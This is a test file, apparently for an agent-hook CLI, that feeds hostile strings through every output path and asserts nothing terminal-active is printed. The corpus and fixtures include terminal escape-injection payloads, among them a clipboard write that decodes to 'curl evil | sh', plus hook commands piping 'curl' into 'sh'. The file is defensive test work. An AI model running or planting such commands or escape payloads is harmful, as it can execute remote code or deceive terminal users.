"""Hostile text where a model or a project controls it, through every command that prints it.

A corpus of strings that would move the cursor, clear lines, set the title or the clipboard,
forge rows, reorder text or hide it is placed in the final text, tool names, tool inputs,
tool_use_ids, a Bash command's output, a hook's reason, settings hook commands and a settings
key. Each command runs in a real process; the test reads the bytes it printed: nothing a
terminal would act on, one record a line, JSON that parses back to what the model said, and
JSONL files that ``str.splitlines`` reads one record a line.
"""

from __future__ import annotations

import json
import re
import subprocess
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from cli_runner import HOOKLINE, src_env
from hookline._cli.render import OUTPUT
from hookline._support.display import shown, shown_json

CORPUS = [
    "\x1b[2A\x1b[2K",  # CSI: two lines up, clear the line
    "\x1b[1;31mRED\x1b[0m",  # SGR colour
    "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07",  # OSC 8 hyperlink
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",  # OSC 52: set the clipboard
    "\x1b]0;owned title\x07",  # OSC 0: window title
    "\x1b]2;title\x1b\\",  # OSC ended by ST
    "\x1bP+q544e\x1b\\",  # DCS
    "\x1bc",  # RIS: reset the terminal
    "\x1b7\x1b8\x1b[?1049h",  # save/restore cursor, alternate screen
    "fine\rtool Bash blocked",  # carriage return overwrite
    "\n2025-01-01T00:00:00  deadbeef  Bash  tool  -  blocked  forged row",  # forged line
    "\x9b2K",  # C1 CSI
    "\x85next line",  # C1 NEL
    "\u202eevil\u202c",  # bidi override
    "\u2066isolate\u2069",  # bidi isolate
    "zero\u200bwidth\u200d\ufeff",  # zero-width space, joiner, BOM
    "line\u2028separator",
    "paragraph\u2029separator",
    "lone \ud800 high surrogate",
    "lone \udfff low surrogate",
    " " * 5000 + "hidden far right",
    "nul\x00byte",
    "del\x7fchar",
    "back\x08\x08\x08space",
    "tab\there\x0bvt\x0cff",
    "nbsp\u00a0ideographic\u3000space",
]
#: Ordinary text: printed exactly as it is.
PLAIN = "café naïve 日本語 中文 Ωμέγα ✓"
#: The corpus as one string, and without what a file or an argv cannot hold.
ALL = "|".join(CORPUS)
_SURROGATES = re.compile("[\ud800-\udfff]")
WRITABLE = "|".join(s for s in CORPUS if "\x00" not in s and not _SURROGATES.search(s))
FINAL_TEXT = "\n".join([*CORPUS, PLAIN])

#: Characters no line hookline prints may hold raw.
_RAW = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})


def _name(i: int, s: str) -> str:
    """A tool name holding ``s`` (the script refuses a lone surrogate in a name, clearly)."""
    return f"Tool{i}{_SURROGATES.sub('?', s)}"


def _script() -> dict[str, Any]:
    unknown = [
        {"id": f"toolu_{i}_{s}", "name": _name(i, s), "input": {"value": s}}
        for i, s in enumerate(CORPUS)
    ]
    quoted = WRITABLE.replace("'", "")
    return {
        "turns": [
            {"text": ALL, "tool_calls": unknown},
            {"tool_calls": [
                {"id": "toolu_out", "name": "Bash", "input": {"command": "cat hostile.txt"}},
                {"id": "toolu_in", "name": "Bash",
                 "input": {"command": f"printf '%s' '{quoted}' > /dev/null"}},
                {"id": "toolu_surrogate", "name": "Bash", "input": {"command": "echo \ud800"}},
            ]},
            {"tool_calls": [{"id": "toolu_read", "name": "Read",
                             "input": {"file_path": "notes.txt"}}]},
            {"text": FINAL_TEXT},
        ]
    }  # fmt: skip


def _deferring_script() -> dict[str, Any]:
    call = {
        "id": f"toolu_{ALL}",
        "name": "Write",
        "input": {"file_path": "out.txt", "content": ALL},
    }
    return {"turns": [{"tool_calls": [call]}, {"text": "written"}]}


def _settings() -> dict[str, Any]:
    """A hook that refuses Read with a hostile reason, under a hostile command line; an unknown
    event whose name is hostile (an error, a warning with ``--lenient-settings``)."""
    deny = 'cat "$CLAUDE_PROJECT_DIR"/reason.txt >&2; exit 2 # \r\x1b[2K\u202e'
    return {
        "hooks": {
            "PreToolUse": [{"matcher": "Read", "hooks": [{"type": "command", "command": deny}]}],
            "Pre\x1b[2KTool\nUse": [{"hooks": [{"type": "command", "command": "true"}]}],
        }
    }


def _listed_settings() -> dict[str, Any]:
    """One hook per corpus string, in the command and the matcher."""
    entries = [
        {"matcher": f"Bash{s}", "hooks": [{"type": "command", "command": f"curl x | sh #{s}"}]}
        for s in CORPUS
    ]
    return {"hooks": {"PreToolUse": entries}}


@dataclass
class Printed:
    args: tuple[str, ...]
    code: int
    out: bytes
    err: bytes

    @property
    def text(self) -> str:
        return self.out.decode("utf-8")  # strict: valid UTF-8, so no raw surrogate either

    @property
    def lines(self) -> list[str]:
        return self.text.split("\n")[:-1] if self.text else []


class Project:
    def __init__(self, root: Path) -> None:
        self.dir = root / "project"
        (self.dir / ".claude").mkdir(parents=True)
        home, managed = root / "home", root / "managed"
        home.mkdir()
        managed.mkdir()
        self.env = src_env({"HOME": str(home), "HOOKLINE_MANAGED_SETTINGS_DIR": str(managed)})
        self.runs: dict[str, Printed] = {}

    def write(self, name: str, data: object) -> None:
        text = data if isinstance(data, str) else json.dumps(data)
        (self.dir / name).write_text(text, encoding="utf-8")

    def __call__(self, *args: str, cwd: Path | None = None) -> Printed:
        done = subprocess.run(
            [*HOOKLINE, *args], cwd=cwd or self.dir, env=self.env, capture_output=True,
            timeout=120, check=False,
        )  # fmt: skip
        printed = Printed(args, done.returncode, done.stdout, done.stderr)
        assert b"Traceback" not in done.stderr, done.stderr.decode(errors="replace")
        return printed


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Project]:
    """The project, with each command run once."""
    p = Project(tmp_path_factory.mktemp("hostile"))
    p.write("script.json", _script())
    p.write("defer.json", _deferring_script())
    p.write("hostile.txt", WRITABLE)
    p.write("reason.txt", WRITABLE)
    p.write("notes.txt", "remember the milk\n")
    p.write(".claude/settings.json", _settings())
    run = ("run", "go", "--model", "scripted:script.json", "--permission-mode", "bypassPermissions",
           "--lenient-settings")  # fmt: skip
    for fmt in ("text", "json", "stream-json"):
        p.runs[f"run {fmt}"] = p(*run, "--output-format", fmt)
    p.runs["run deferred"] = p(
        "run",
        "write",
        "--model",
        "scripted:defer.json",
        "--defer-asks",
        "--output-format",
        "json",
        "--lenient-settings",
    )
    for args in (("audit",), ("audit", "--json"), ("audit", "verify"), ("sessions", "list"),
                 ("sessions", "list", "--json")):  # fmt: skip
        p.runs[" ".join(args)] = p(*args)
    deferred = json.loads(p.runs["run deferred"].out)["session_id"]
    p.runs["sessions show"] = p("sessions", "show", deferred, "--json")
    p.runs["sessions show text"] = p("sessions", "show", deferred)
    listed = p.dir / "listed"
    (listed / ".claude").mkdir(parents=True)
    (listed / ".claude" / "settings.json").write_text(json.dumps(_listed_settings()))
    for args in (("list",), ("list", "--json"), ("table",), ("validate",), ("validate", "--json")):
        p.runs[" ".join(("hooks", *args))] = p("hooks", *args, cwd=listed)
    yield p


def _assert_nothing_a_terminal_acts_on(text: str, *, data: bool = False) -> None:
    """No control, format or separator character, no lone surrogate; unless the text is JSON
    data (which must parse back exactly), no wall of spaces either."""
    assert "\x1b" not in text and "\r" not in text and "\x9b" not in text
    assert not {"\u2028", "\u2029", "\u202e", "\u2066", "\u200b", "\x00"} & set(text)
    for char in text:
        if char != "\n":
            category = unicodedata.category(char)
            assert category not in _RAW and (category != "Zs" or char == " "), repr(char)
    assert data or " " * 100 not in text  # a wall of spaces is counted, not printed


JSON_OUTPUTS = {
    "run json", "run stream-json", "run deferred", "audit --json", "sessions list --json",
    "sessions show", "hooks list --json", "hooks validate --json",
}  # fmt: skip
ALL_OUTPUTS = [
    "run text", "run json", "run stream-json", "run deferred", "audit", "audit --json",
    "audit verify", "sessions list", "sessions list --json", "sessions show",
    "sessions show text", "hooks list",
    "hooks list --json", "hooks table", "hooks validate", "hooks validate --json",
]  # fmt: skip


@pytest.mark.parametrize("command", ALL_OUTPUTS)
def test_no_command_prints_a_byte_a_terminal_acts_on(project: Project, command: str) -> None:
    printed = project.runs[command]
    paused = 4  # the exit code of a run that paused
    expected = {"run deferred": (paused,), "hooks validate": (2,), "hooks validate --json": (2,)}
    expected_code = expected.get(command, (0, 1))  # validate: the hostile matchers are errors
    assert printed.code in expected_code, printed.err.decode(errors="replace")
    _assert_nothing_a_terminal_acts_on(printed.text, data=command in JSON_OUTPUTS)
    _assert_nothing_a_terminal_acts_on(printed.err.decode("utf-8"))


def test_the_run_was_hostile_everywhere_and_finished(project: Project) -> None:
    out = json.loads(project.runs["run json"].out)
    assert out["stop_reason"] == "end_turn"
    assert out["final_text"] == FINAL_TEXT  # the lone surrogates included, as \ud800 escapes
    calls = {call["tool_use_id"]: call for call in out["tool_calls"]}
    assert [calls[f"toolu_{i}_{s}"]["name"] for i, s in enumerate(CORPUS)] == [
        _name(i, s) for i, s in enumerate(CORPUS)
    ]
    assert calls["toolu_out"]["status"] == "executed"
    assert calls["toolu_out"]["output"]["stdout"] == WRITABLE
    assert calls["toolu_in"]["status"] == "executed"
    assert calls["toolu_surrogate"]["status"] == "failed"  # refused, with the reason
    assert "valid string" in calls["toolu_surrogate"]["reason"]
    assert calls["toolu_read"]["status"] == "blocked"
    assert WRITABLE in calls["toolu_read"]["reason"]


def test_text_output_is_one_line_per_record_and_the_final_text_is_quoted(
    project: Project,
) -> None:
    out = json.loads(project.runs["run json"].out)
    lines = project.runs["run text"].lines
    calls = len(out["tool_calls"])
    assert sum(line.startswith("model -> ") for line in lines) == calls
    assert sum(line.startswith("tool ") for line in lines) == calls
    final = [line for line in lines if line.startswith("> ")]
    assert len(final) == FINAL_TEXT.count("\n") + 1  # its own line breaks, and only those
    assert final[-1] == f"> {PLAIN}"  # ordinary text unchanged
    assert any(line.endswith("        [+4992 spaces]hidden far right") for line in final)
    assert lines[-1].startswith("-- end_turn")
    hook = re.compile(r"  [A-Za-z]+ hook ")
    ours = ("model -> ", "tool ", "> ", "-- ", OUTPUT)  # OUTPUT: a line of a tool's output
    for line in lines:  # nothing the model wrote passes for a line of hookline's
        assert line.startswith(ours) or hook.match(line), line
    blocked = [line for line in lines if line.startswith("tool Read blocked: ")]
    assert len(blocked) == 1 and shown(WRITABLE) in blocked[0]


def test_json_outputs_parse_back_to_what_was_said(project: Project) -> None:
    streamed = [json.loads(line) for line in project.runs["run stream-json"].lines]
    assert streamed[-1]["type"] == "result" and streamed[-1]["final_text"] == FINAL_TEXT
    assert json.loads(project.runs["run json"].out)["final_text"] == FINAL_TEXT
    assert PLAIN in project.runs["run json"].text  # not escaped: ordinary text is kept
    for command in ("audit --json", "sessions list --json"):
        assert all(json.loads(line) for line in project.runs[command].lines)
    for command in ("sessions show", "hooks list --json", "hooks validate --json"):
        json.loads(project.runs[command].out)


def test_audit_is_one_line_per_record_and_verifies(project: Project) -> None:
    records = [json.loads(line) for line in project.runs["audit --json"].lines]
    # a line per record and per hook run a call's record carries, and the header
    lines = sum(1 + len(r["data"].get("hooks", ())) for r in records)
    assert len(project.runs["audit"].lines) == 1 + lines and len(records) > len(CORPUS)
    tools = {r["tool"] for r in records}
    assert {_name(i, s) for i, s in enumerate(CORPUS)} <= tools
    verify = project.runs["audit verify"]
    assert verify.code == 0 and "chain intact" in verify.text


def test_sessions_list_shows_the_deferred_session_on_one_line(project: Project) -> None:
    sessions = [json.loads(line) for line in project.runs["sessions list --json"].lines]
    assert len(project.runs["sessions list"].lines) == 1 + len(sessions) >= 2  # 1: the header
    deferred = json.loads(project.runs["run deferred"].out)["session_id"]
    (line,) = [line for line in project.runs["sessions list"].lines if " paused " in line]
    assert line.startswith(f"{deferred}  paused") and shown(f"toolu_{ALL}") in line
    waiting = json.loads(project.runs["sessions show"].out)["waiting"]
    assert waiting == [{"id": f"toolu_{ALL}", "name": "Write",
                        "input": {"file_path": "out.txt", "content": ALL}}]  # fmt: skip


def test_hooks_list_table_and_validate_show_every_hook_on_one_line(project: Project) -> None:
    hooks = json.loads(project.runs["hooks list --json"].out)["hooks"]
    warned = project.runs["hooks list"].err.decode("utf-8").splitlines()
    assert all(w.startswith("hookline: warning: ") for w in warned)
    assert len(hooks) + len(warned) == len(CORPUS)  # a matcher that is no regex is skipped
    assert len(hooks) > len(CORPUS) // 2
    assert len(project.runs["hooks list"].lines) == len(hooks) + 1
    assert len(project.runs["hooks table"].lines) == len(hooks) + 2
    for hook in hooks:
        name = shown(hook["name"])
        assert name.startswith("curl x | sh #")
        assert sum(name in line for line in project.runs["hooks list"].lines) == 1
    found = json.loads(project.runs["hooks validate --json"].out)["findings"]
    assert len(project.runs["hooks validate"].lines) == len(found) + 1


def test_warnings_name_a_hostile_key_on_one_line(project: Project) -> None:
    warnings = project.runs["run text"].err.decode("utf-8").splitlines()
    (line,) = [w for w in warnings if "Pre\\x1b[2KTool\\nUse" in w]
    assert line.startswith("hookline: warning: ")


def test_an_error_naming_a_hostile_value_is_one_line(project: Project) -> None:
    done = project(
        "run", "go", "--model", "scripted:\x1b]0;x\x07\u202ebad\u2028.json", "--lenient-settings"
    )
    assert done.code == 2
    err = done.err.decode("utf-8")
    _assert_nothing_a_terminal_acts_on(err)
    errors = [line for line in err.splitlines() if not line.startswith("hookline: warning: ")]
    assert len(errors) == 1 and errors[0].startswith("hookline: error: ")
    assert "\\x1b]0;x\\x07\\u202ebad\\u2028.json" in errors[0]


def test_jsonl_files_hold_one_record_a_line_with_breaks_and_surrogates_escaped(
    project: Project,
) -> None:
    state = project.dir / ".hookline" / "state"
    files = [state / "audit.jsonl", *sorted((state / "transcripts").glob("*.jsonl"))]
    assert len(files) >= 5
    for path in files:
        text = path.read_bytes().decode("utf-8")  # strict
        assert not {"\u2028", "\u2029", "\x85"} & set(text), path
        lines = text.splitlines()
        assert len(lines) == text.count("\n")
        assert all(isinstance(json.loads(line), dict) for line in lines)
    transcript = json.loads(project.runs["run json"].out)["transcript_path"]
    entries = [json.loads(line) for line in Path(transcript).read_text().splitlines()]
    texts = [b.get("text") for e in entries for b in _blocks(e) if b.get("type") == "text"]
    assert FINAL_TEXT in texts and ALL in texts


def _blocks(entry: dict[str, Any]) -> list[dict[str, Any]]:
    content = entry["message"]["content"]
    return content if isinstance(content, list) else []


@pytest.mark.parametrize("value", [*CORPUS, ALL, {"k\u2028": ["\ud800", "\U000f0000"]}])
def test_shown_json_parses_back_and_holds_nothing_raw(value: object) -> None:
    for indent in (None, 2):
        text = shown_json(value, indent=indent)
        assert json.loads(text) == value
        _assert_nothing_a_terminal_acts_on(text, data=True)
        assert text.isascii()


def test_shown_json_keeps_ordinary_text() -> None:
    assert shown_json({"text": PLAIN}) == '{"text":"' + PLAIN + '"}'


def test_shown_without_collapse_keeps_a_laid_out_line_and_escapes_again_to_itself() -> None:
    padded = "Read" + " " * 12 + "|"
    assert shown(padded, collapse=False) == padded and shown(padded) != padded
    for s in CORPUS:
        once = shown(s)
        assert shown(once, collapse=False) == once


def test_a_prompt_with_a_lone_surrogate_reaches_a_command_hook_as_json(tmp_path: Path) -> None:
    """Bytes that are not UTF-8 in argv arrive as lone surrogates (``\\udcff``); a command
    hook reads them as a ``\\u`` escape in its stdin JSON instead of failing."""
    p = Project(tmp_path)
    hook = {"type": "command", "command": 'cat > "$CLAUDE_PROJECT_DIR"/got.json'}
    p.write(".claude/settings.json", {"hooks": {"UserPromptSubmit": [{"hooks": [hook]}]}})
    p.write("script.json", {"turns": [{"text": "ok \ud800"}]})
    done = subprocess.run(
        [*HOOKLINE, "run", b"go \xff", "--model", "scripted:script.json", "--output-format",
         "json"], cwd=p.dir, env=p.env, capture_output=True, timeout=60, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout)
    assert out["final_text"] == "ok \ud800" and not out["hook_runs"][0]["failure"]
    assert json.loads((p.dir / "got.json").read_bytes())["prompt"] == "go \udcff"


def test_a_settings_error_naming_a_hostile_event_is_one_safe_line(project: Project) -> None:
    """Without ``--lenient-settings`` the hostile event name stops the run: one line, escaped."""
    done = project("run", "go", "--model", "scripted:script.json")
    assert done.code == 2
    (line,) = done.err.decode("utf-8").splitlines()
    assert line.startswith("hookline: error: ") and "Pre\\x1b[2KTool\\nUse" in line
    _assert_nothing_a_terminal_acts_on(line)
